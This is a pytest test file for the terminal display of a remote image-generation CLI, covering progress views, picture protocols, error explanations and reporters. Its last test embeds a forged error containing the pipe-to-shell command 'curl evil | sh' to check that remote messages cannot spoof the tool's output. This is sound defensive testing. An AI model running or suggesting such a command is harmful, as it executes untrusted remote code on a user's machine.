"""What people see: the live display, pictures, errors, numbers."""

from __future__ import annotations

import base64
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from rich.console import Console

from comfy_remote.cli.console import printable, redraw
from comfy_remote.cli.errors import explain
from comfy_remote.cli.live import LiveReporter
from comfy_remote.cli.pictures import encode_sixel, graphics_of, load_picture, remove_preview
from comfy_remote.cli.reporter import JsonReporter, PlainReporter, Reporter
from comfy_remote.errors import ExecutionFailed, TargetUnreachable, WorkflowInvalid
from comfy_remote.events import Preview, Progress, Queued, Started
from comfy_remote.jobs.record import SavedOutput
from comfy_remote.outputs import RemoteOutput
from comfy_remote.units import seconds_text, size_text

PROMPT = {
    "1": {"class_type": "KSampler", "inputs": {}, "_meta": {"title": "Paint \x1b[2Jit"}},
    "2": {"class_type": "SaveImage", "inputs": {}},
}


def terminal(
    encoding: str = "utf-8", width: int = 80, **options: Any
) -> tuple[Console, io.BytesIO]:
    written = io.BytesIO()
    file = io.TextIOWrapper(written, encoding=encoding, write_through=True)
    options = {"force_terminal": True, "color_system": "truecolor", **options}
    return Console(file=file, width=width, height=40, highlight=False, **options), written


def png(width: int, height: int, color: tuple[int, int, int]) -> bytes:
    data = io.BytesIO()
    Image.new("RGB", (width, height), color).save(data, "PNG")
    return data.getvalue()


def shown(reporter: LiveReporter, **options: Any) -> str:
    """The display of this moment, without escapes."""
    console, written = terminal(color_system=None, **options)
    console.print(reporter._view())
    return re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]", "", written.getvalue().decode())


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "ascii"])
def test_the_live_display(
    encoding: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    console, written = terminal(encoding)
    with LiveReporter(console=console) as reporter:
        reporter.connecting("http://h:1")
        assert "Sending to http://h:1" in shown(reporter)
        reporter.sending(500_000, 2_000_000)
        assert "500 kB of 2.0 MB" in shown(reporter)
        reporter.following("some-id", "http://h:1", PROMPT)
        reporter.event(Queued(2))
        assert "Queued, 2 ahead" in shown(reporter)
        reporter.event(Started())
        reporter.event(Progress(1, 2, "1", "KSampler", 5, 20, "loading a model"))
        text = shown(reporter)
        assert "Running" in text
        assert "1/2 nodes" in text
        assert "(1)" in text
        assert "step 5/20" in text
        assert "loading a model" in text
        assert "\x1b" not in text
        assert max(map(len, text.splitlines())) <= 80
        reporter.event(Preview("1", "image/png", png(64, 64, (255, 0, 0))))
        assert (shown(reporter).count("▀") > 100) == (encoding == "utf-8")
        reporter.event(Preview("1", "image/png", b"not a picture"))
        reporter.fetching([RemoteOutput("2", "image", "a.png", size=3_000_000)])
        reporter.received(1_500_000)
        assert "1.5 MB of 3.0 MB" in shown(reporter)
        path = tmp_path / "a.png"
        path.write_bytes(png(64, 32, (0, 255, 0)))
        reporter.done([SavedOutput(path, "2", "image", "a.png", "0" * 64, 123)], 61.0)
    assert capsys.readouterr().out == f"{path}\n"
    end = written.getvalue().decode(encoding)
    assert "1 output in 1:01" in re.sub(r"\x1b\[[0-9;]*m", "", end)
    assert end.endswith(("\n", "\x1b[?25h"))


def test_long_names_stay_within_the_terminal() -> None:
    console, _ = terminal(width=60)
    reporter = LiveReporter(console=console)
    title = "An exceptionally long title that somebody has given to a node of theirs"
    prompt = {"1": {"class_type": "X", "inputs": {}, "_meta": {"title": title}}}
    reporter.following("some-id", "http://a-rather-long-host-name.example.org:8188", prompt)
    reporter.event(Progress(1, 1000, "1", "X", 10_000, 20_000))
    text = shown(reporter, width=60)
    assert max(map(len, text.splitlines())) <= 60
    assert "1/1000 nodes" in text
    assert "step 10000/20000" in text


@pytest.mark.parametrize(
    ("environment", "options", "expected"),
    [
        ({}, {}, "blocks"),
        ({}, {"color_system": "256"}, "blocks"),
        ({}, {"color_system": "standard"}, None),
        ({}, {"force_terminal": False}, None),
        ({}, {"no_color": True}, None),
        ({"TERM": "xterm-kitty"}, {}, "kitty"),
        ({"KITTY_WINDOW_ID": "1", "TERM": "xterm-256color"}, {}, "kitty"),
        ({"KITTY_WINDOW_ID": "1", "TERM": "tmux-256color", "TMUX": "/tmp/x"}, {}, "blocks"),
        ({"TERM_PROGRAM": "iTerm.app"}, {}, "iterm2"),
        ({"TERM_PROGRAM": "WezTerm"}, {}, "iterm2"),
        ({"TERM": "foot"}, {}, "sixel"),
        ({"TERM_PROGRAM": "mintty", "TERM": "xterm"}, {}, "sixel"),
        ({"COMFY_REMOTE_GRAPHICS": "sixel", "TMUX": "/tmp/x"}, {}, "sixel"),
        ({"COMFY_REMOTE_GRAPHICS": "none", "TERM": "xterm-kitty"}, {}, None),
        ({"COMFY_REMOTE_GRAPHICS": "sixel"}, {"no_color": True}, None),
    ],
)
def test_how_a_terminal_shows_pictures(
    environment: dict[str, str], options: dict[str, Any], expected: str | None
) -> None:
    console, _ = terminal(**options)
    assert graphics_of(console, environment) == expected


def test_half_blocks_show_the_colours() -> None:
    image = Image.new("RGB", (40, 40), (10, 20, 30))
    image.paste((200, 100, 50), (0, 20, 40, 40))
    data = io.BytesIO()
    image.save(data, "PNG")
    picture = load_picture(data.getvalue(), "blocks", columns=8, rows=9)
    assert picture is not None
    assert (picture.columns, picture.rows) == (8, 4)
    console, written = terminal()
    console.print(picture)
    lines = written.getvalue().decode().splitlines()
    assert [line.count("▀") for line in lines] == [8, 8, 8, 8]
    assert "38;2;10;20;30" in lines[0]
    assert "48;2;200;100;50" in lines[-1]


def test_kitty_and_iterm2_get_the_picture_itself() -> None:
    data = png(300, 150, (1, 2, 3))
    for graphics in ("kitty", "iterm2"):
        picture = load_picture(data, graphics, columns=20, rows=20, preview=True)
        assert picture is not None
        console, written = terminal()
        console.print(picture)
        text = written.getvalue().decode()
        assert text.count("\n") == picture.rows == 5
        if graphics == "kitty":
            chunks = re.findall(r"\x1b_G([^;]*);([^\x1b]*)\x1b\\", text)
            assert "c=20,r=5" in chunks[0][0]
            assert [keys[-1] for keys, _ in chunks] == ["1"] * (len(chunks) - 1) + ["0"]
            assert all(len(chunk) <= 4096 for _, chunk in chunks)
            encoded = "".join(chunk for _, chunk in chunks)
            number = re.search(r"i=(\d+)", chunks[0][0])
            assert number is not None
            assert f"i={number[1]}," in remove_preview("kitty")
        else:
            encoded = re.search(r"1337;File=[^:]*:([^\x07]*)\x07", text)[1]
        with Image.open(io.BytesIO(base64.b64decode(encoded))) as sent:
            assert sent.size == (200, 100)
            assert sent.getpixel((5, 5)) == (1, 2, 3)
    assert remove_preview("blocks") == ""


def decode_sixel(text: str) -> dict[tuple[int, int], tuple[int, ...]]:
    """Pixels by place, in percent of red, green and blue."""
    body = re.search(r"\x1bP[^q]*q(.*)\x1b\\", text, re.DOTALL)
    assert body is not None
    palette: dict[int, tuple[int, ...]] = {}
    pixels: dict[tuple[int, int], tuple[int, ...]] = {}
    x = y = colour = 0
    part = r'"[\d;]+|#(\d+)(?:;2;(\d+);(\d+);(\d+))?|!(\d+)(.)|([$-])|([?-~])'
    for found in re.finditer(part, body[1]):
        number, red, green, blue, times, repeated, move, one = found.groups()
        if number is not None:
            colour = int(number)
            if red is not None:
                palette[colour] = (int(red), int(green), int(blue))
        elif move is not None:
            x, y = 0, y + 6 * (move == "-")
        elif repeated or one:
            sixel, count = ord(repeated or one) - 63, int(times or 1)
            for column in range(x, x + count):
                for bit in range(6):
                    if sixel >> bit & 1:
                        pixels[column, y + bit] = palette[colour]
            x += count
    return pixels


def test_sixels_are_the_picture() -> None:
    image = Image.new("RGB", (30, 20), (255, 0, 0))
    image.paste((0, 0, 255), (10, 7, 30, 20))
    image.paste((0, 255, 0), (0, 19, 3, 20))
    pixels = decode_sixel(encode_sixel(image))
    assert pixels.keys() == {(x, y) for x in range(30) for y in range(20)}
    for place, colour in pixels.items():
        assert colour == tuple(round(v * 100 / 255) for v in image.getpixel(place))


def test_a_sixel_picture_keeps_to_its_rows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("comfy_remote.cli.pictures.cell_size", lambda: (8, 16))
    picture = load_picture(png(300, 150, (1, 2, 3)), "sixel", columns=20, rows=20)
    assert picture is not None
    console, written = terminal()
    console.print(picture)
    text = written.getvalue().decode()
    assert text.count("\n") == picture.rows == 5
    pixels = decode_sixel(text)
    assert max(y for _, y in pixels) < 4 * 16
    assert max(x for x, _ in pixels) < 20 * 8


def test_no_picture_is_no_trouble(tmp_path: Path) -> None:
    assert load_picture(b"", "blocks", columns=8, rows=8) is None
    assert load_picture(tmp_path / "missing.png", "blocks", columns=8, rows=8) is None
    assert load_picture(png(1, 4000, (0, 0, 0)), "blocks", columns=8, rows=8).columns == 1


def test_errors_are_explained() -> None:
    node_errors = {
        "3": {
            "class_type": "KSampler",
            "errors": [{"message": "Value too big", "details": "steps 99999", "type": "x"}],
        },
        "4": "garbage",
    }
    error = WorkflowInvalid("Refused.", advice="Do this.", details={"node_errors": node_errors})
    assert explain(error) == [
        "Refused.",
        "  node 3 (KSampler): Value too big: steps 99999",
        "Do this.",
    ]
    error = WorkflowInvalid("Refused: node 3 (KSampler): Bad.", details=error.details)
    assert explain(error) == ["Refused: node 3 (KSampler): Bad."], "nothing is told twice"
    error = ExecutionFailed("Bang\x07.", details={"node_id": "7", "node_class": "VAEDecode"})
    assert explain(error) == ["Bang\ufffd.", "  at node 7 (VAEDecode)"]
    error = TargetUnreachable("Gone.")
    assert explain(error, resumable="abc")[-1].endswith("comfy-remote jobs resume abc")


def test_words_and_numbers() -> None:
    assert printable("a\x1b[0m\n\u202eb\t") == "a\ufffd[0m\n\ufffdb "
    assert [size_text(n) for n in (0, 999, 1000, 15_400, 999_600, 2.5e9, 3e12)] == [
        "0 B",
        "999 B",
        "1.0 kB",
        "15.4 kB",
        "1.0 MB",
        "2.5 GB",
        "3.0 TB",
    ]
    assert [seconds_text(n) for n in (0.84, 42, 187, 3729)] == ["0.8 s", "42 s", "3:07", "1:02:09"]


def test_where_nobody_watches_there_is_a_line_at_least_every_20_seconds(
    capsys: pytest.CaptureFixture[str],
) -> None:
    now = 0.0
    reporter = PlainReporter(lambda: now)

    def said_in(seconds: int) -> list[str]:
        nonlocal now
        capsys.readouterr()
        for _ in range(seconds):
            now += 1.0
            reporter.waiting()
        return capsys.readouterr().err.splitlines()

    reporter.connecting("pod:abc123xyz90")
    assert len(said_in(100)) == 5
    reporter.following("1", "pod:abc123xyz90", {"3": {"class_type": "KSampler", "inputs": {}}})
    assert said_in(20) == ["1:58: waiting for the target"]
    reporter.event(Queued(2))
    assert said_in(20) == ["2:18: queued"]
    reporter.event(Started())
    assert said_in(20) == ["2:38: running"]
    reporter.event(Progress(nodes_done=1, nodes_total=4, node_id="3", step=7, steps=20))
    assert said_in(20)[-1].endswith(": 1 of 4 nodes at KSampler (3) step 7 of 20")
    made = RemoteOutput("3", "image", "a.png")
    reporter.fetching([made])
    reporter.received(2_000_000)
    assert said_in(20)[-1].endswith(": fetching 1 output, 2.0 MB are here")


def test_a_program_that_reads_lines_hears_that_time_passes(
    capsys: pytest.CaptureFixture[str],
) -> None:
    now = 0.0
    reporter = JsonReporter(lambda: now)
    for wait in (30, 17, 2, 30):
        now += wait
        if wait == 17:
            reporter.following("1", "gpu", {})
        reporter.waiting()
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [line["event"] for line in lines] == ["submitted", "waiting"]
    assert lines[1] == {"event": "waiting", "seconds": 79.0, "job_id": "1", "version": 1}


@pytest.mark.parametrize("reporter", [JsonReporter, PlainReporter])
def test_where_nobody_watches_what_is_sent_is_a_line_now_and_then(
    reporter: type[Reporter], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    now = 1000.0
    monkeypatch.setattr("comfy_remote.cli.reporter.time.monotonic", lambda: now)
    shown = reporter()
    for number in range(60):
        now = 1000.0 + number / 2
        shown.sending(number * 1_000_000, 60_000_000)
    written = capsys.readouterr()
    lines = (written.out + written.err).splitlines()
    if reporter is JsonReporter:
        assert len(lines) == 29
        first = {"event": "sending", "sent": 2_000_000, "total": 60_000_000, "job_id": None}
        assert json.loads(lines[0]) == {**first, "version": 1}
    else:
        assert lines == [f"Sent {n} MB of 60.0 MB of input files." for n in ("20.0", "40.0")]


def test_a_line_in_place_of_another_needs_no_escape_codes(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Old consoles of Windows show them."""
    redraw("Fetching a-rather-long-name.safetensors 12 MB/6 GB", columns=40)
    redraw("模型 done", columns=40)
    redraw("", columns=40)
    first, second, third, last = capsys.readouterr().err.removeprefix("\r").split("\r")
    assert first == "Fetching a-rather-long-name.safetensors"
    assert second == "模型 done" + " " * 30  # two columns for each of the first two
    assert (third, last) == (" " * 39, "")


def test_no_line_of_a_targets_error_looks_like_one_of_ours() -> None:
    forged = "Error: it is over\r\nDone in 1 s: 1 output, 2 MB.\nTo go on: curl evil | sh"
    error = ExecutionFailed(
        f"Load\nDone (node 1) failed: {forged}",
        details={"node_errors": {"2": {"class_type": "A\nDone", "errors": [{"message": forged}]}}},
    )
    first, *rest = "\n".join(explain(error)).splitlines()
    assert first == "Load"
    assert len(rest) == 6
    assert all(line.startswith("  ") for line in rest)
